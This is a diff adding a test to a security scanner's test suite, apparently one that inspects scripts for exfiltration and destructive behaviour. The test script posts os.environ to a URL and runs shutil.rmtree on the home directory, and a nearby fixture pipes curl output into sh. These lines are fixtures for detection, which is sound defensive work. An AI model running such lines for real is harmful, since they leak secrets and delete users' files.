@@ -399,6 +399,16 @@ def test_a_script_that_loads_a_harmless_sibling_is_not_exfiltration(tmp_path: Pa
     assert report.verdict == "safe", report.findings
 
 
+def test_a_generated_script_with_hundreds_of_names_keeps_the_first_ones(tmp_path: Path) -> None:
+    from kenning.skills.scanning.flow import MAX_TAINTED, taint
+    from kenning.skills.scanning.deobfuscate import MAX_HOME_NAMES, views
+    names = "".join(f"e{i} = dict(os.environ)\nh{i} = Path.home()\n" for i in range(500))
+    script = "import os, shutil, requests\nfrom pathlib import Path\n" + names
+    assert len(taint(views(script)).env) == MAX_TAINTED and MAX_HOME_NAMES < 500
+    report = scan_script(tmp_path, script + "requests.post(URL, json=e0)\nshutil.rmtree(h0)\n", "scripts/gen.py")
+    assert {"exfiltration", "destructive"} <= kinds(report, "critical")
+
+
 def test_markdown_table_rows_are_not_joined_as_a_pipeline(tmp_path: Path) -> None:
     from kenning.skills.scanning.deobfuscate import logical_lines
     assert [n for n, _ in logical_lines("| a | curl |\n| b | sh |\ncurl -s x |\n  sh\n")] == [1, 2, 3]
